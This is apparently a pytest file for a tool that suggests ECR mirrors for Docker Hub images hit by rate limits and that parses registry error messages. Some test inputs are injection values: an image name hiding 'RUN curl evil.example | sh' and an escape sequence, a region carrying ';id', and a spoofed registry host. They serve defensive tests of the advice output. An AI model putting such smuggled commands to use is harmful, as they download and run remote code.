"""Where else an image is, and which image an error names."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from remediator.core.advice.mirrors import image_named, mirror_advice, mirrors
from remediator.core.codebuild.image import ImageReference
from tests.unit.terminal import paste

ACCOUNT, REGION = "111122223333", "eu-west-1"
CACHE = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/docker-hub"
DIGEST = "sha256:" + "0a" * 32


def test_an_official_image_is_in_ecr_public_and_in_the_cache() -> None:
    assert mirrors(ImageReference.parse("python:3.12"), ACCOUNT, REGION) == (
        "public.ecr.aws/docker/library/python:3.12",
        f"{CACHE}/library/python:3.12",
    )


def test_another_image_of_docker_hub_is_in_the_cache_alone() -> None:
    assert mirrors(ImageReference.parse("acme/tool"), ACCOUNT, REGION) == (f"{CACHE}/acme/tool",)


def test_tag_and_digest_are_kept() -> None:
    image = ImageReference.parse(f"acme/tool:1@{DIGEST}")
    assert mirrors(image, ACCOUNT, REGION) == (f"{CACHE}/acme/tool:1@{DIGEST}",)


def test_china_has_a_domain_of_its_own() -> None:
    image = ImageReference.parse("acme/tool:1")
    assert mirrors(image, ACCOUNT, "cn-north-1", "aws-cn") == (
        "111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn/docker-hub/acme/tool:1",
    )


@pytest.mark.parametrize("text", ["public.ecr.aws/docker/library/python:3.12", "aws/codebuild/standard:7.0"])
def test_an_image_that_is_not_of_docker_hub_has_no_mirror_and_no_advice(text: str) -> None:
    image = ImageReference.parse(text)
    assert mirrors(image, ACCOUNT, REGION) == ()
    assert mirror_advice(image, ACCOUNT, REGION) == ""


@pytest.mark.parametrize(
    ("account", "region"),
    [("evil.example/", REGION), ("", REGION), (ACCOUNT + "\n", REGION), (ACCOUNT, "eu-west-1;id"), (ACCOUNT, "")],
)
def test_an_account_or_region_that_is_none_makes_no_host(account: str, region: str) -> None:
    assert mirrors(ImageReference.parse("python"), account, region) == ("public.ecr.aws/docker/library/python",)
    assert "dkr.ecr" not in mirror_advice(ImageReference.parse("python"), account, region)


ADVICE = """\
Pull library/python from ECR Public or the account's pull-through cache.
where: the Dockerfile or the command that names the image
why: pulls from there do not count towards Docker Hub's limit for the build's address

# ECR Public: in a Dockerfile, or as a command
FROM public.ecr.aws/docker/library/python:3.12
docker pull public.ecr.aws/docker/library/python:3.12

# the account's pull-through cache: in a Dockerfile, or as a command
FROM 111122223333.dkr.ecr.eu-west-1.amazonaws.com/docker-hub/library/python:3.12
docker pull 111122223333.dkr.ecr.eu-west-1.amazonaws.com/docker-hub/library/python:3.12

# the pull-through cache needs this once; the second command takes the ARN that the first one shows
python3 - YOUR-USER <<'EOF' | aws secretsmanager create-secret --region eu-west-1 \
--name ecr-pullthroughcache/docker-hub --secret-string file:///dev/stdin
import getpass, json, sys
token = getpass.getpass("Docker Hub access token: ")
print(json.dumps({"username": sys.argv[1], "accessToken": token}))
EOF
aws ecr create-pull-through-cache-rule --region eu-west-1 --ecr-repository-prefix docker-hub \
--upstream-registry-url registry-1.docker.io --credential-arn SECRET_ARN
# and this in each build, whose role may ecr:BatchImportUpstreamImage and ecr:CreateRepository
aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin \
111122223333.dkr.ecr.eu-west-1.amazonaws.com"""


def test_the_advice_in_full() -> None:
    assert mirror_advice(ImageReference.parse("python:3.12"), ACCOUNT, REGION) == ADVICE


def test_the_commands_secret_is_json_with_the_keys_that_the_cache_reads(tmp_path: Path) -> None:
    lines = ADVICE.partition("this once;")[2].partition("\n")[2].partition("\naws ecr")[0]
    given = paste(lines, tmp_path, "to'ken")
    assert json.loads(given["stored"]) == {"username": "YOUR-USER", "accessToken": "to'ken"}
    assert "to'ken" not in given["arguments"] + given["environment"] + given["terminal"]


def test_an_image_that_was_not_parsed_can_neither_begin_a_line_nor_a_command() -> None:
    image = ImageReference("docker.io", "library/x\nRUN curl evil.example | sh\n\x1b[2J", "1")
    advice = mirror_advice(image, ACCOUNT, REGION)
    name = "public.ecr.aws/docker/library/x RUN curl evil.example | sh :1"
    assert f"docker pull '{name}'" in advice.splitlines()
    assert not any(line.startswith("RUN") for line in advice.splitlines())
    assert "\x1b" not in advice


@pytest.mark.parametrize(
    ("text", "image"),
    [
        ("https://registry-1.docker.io/v2/library/python/manifests/3.12: 429", "python:3.12"),
        (
            "GET https://index.docker.io/v2/library/python/manifests/3.10-slim: TOOMANYREQUESTS: You have",
            "python:3.10-slim",
        ),
        ('Head "https://registry-1.docker.io/v2/acme/tool/manifests/1.2.3": toomanyrequests', "acme/tool:1.2.3"),
        (
            f"unexpected status code https://registry-1.docker.io/v2/acme/tool/manifests/{DIGEST}: 429",
            f"acme/tool@{DIGEST}",
        ),
        ("https://registry-1.docker.io/v2/library/rust/blobs/sha256:0a: 429", "rust"),
        ("failed to resolve source metadata for docker.io/library/node:24-alpine: 429", "node:24-alpine"),
        ('failed to pull and unpack image "docker.io/library/debian:latest": failed', "debian:latest"),
        ("could not pull docker.io/library/python:3.12.", "python:3.12"),
        ("ERROR: failed to solve: python:3.12: failed to copy", "python:3.12"),
        (
            f"ERROR: failed to solve: acme/tool: https://registry-1.docker.io/v2/acme/tool/manifests/{DIGEST}",
            "acme/tool",
        ),
        ("Error reading manifest latest in docker.io/library/centos: toomanyrequests", "centos:latest"),
        ("Error initializing source docker://acme/tool:0.25.1: toomanyrequests", "acme/tool:0.25.1"),
        ("Unable to find image 'redis:7' locally | toomanyrequests", "redis:7"),
        ("18-alpine: Pulling from library/node | toomanyrequests", "node:18-alpine"),
        ("docker build -t docker.io/acme/mine:1 . | failed to solve: python:3.12: 429", "python:3.12"),
    ],
)
def test_an_error_names_its_image(text: str, image: str) -> None:
    assert image_named(text) == ImageReference.parse(image)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "toomanyrequests: You have reached your pull rate limit.",
        "ERROR: failed to solve: toomanyrequests: You have reached your pull rate limit.",
        "failed to solve: rpc error: code = Unknown",
        "failed to solve: public.ecr.aws/acme/tool:1: 429",
        "https://ghcr.io/v2/acme/tool/manifests/1: 429",
        "https://registry-1.docker.io.evil.example/v2/acme/tool/manifests/1: 429",
        "notdocker.io/acme/tool:1 and mirror.example/docker.io/acme/tool:1",
        "docker.io/Acme/Tool:1",
        "https://registry-1.docker.io/v2/manifests/sha256:2bb501e6429 Too Many Requests",
        "docker build -t docker.io/acme/mine:1 . toomanyrequests",
        "https://www.docker.com/increase-rate-limit",
    ],
)
def test_a_text_that_does_not_name_one_names_none(text: str) -> None:
    assert image_named(text) is None


@pytest.mark.parametrize(
    "part",
    [
        "docker.io/",
        "failed to solve: " + "a/" * 300,
        "a:",
        " -t",
        "https://registry-1.docker.io/v2/a",
        " docker.io/a__" * 9,
    ],
)
def test_a_long_text_is_no_danger(part: str) -> None:
    image = image_named(part * (200_000 // len(part)) + "!")
    assert image is None or image.is_docker_hub
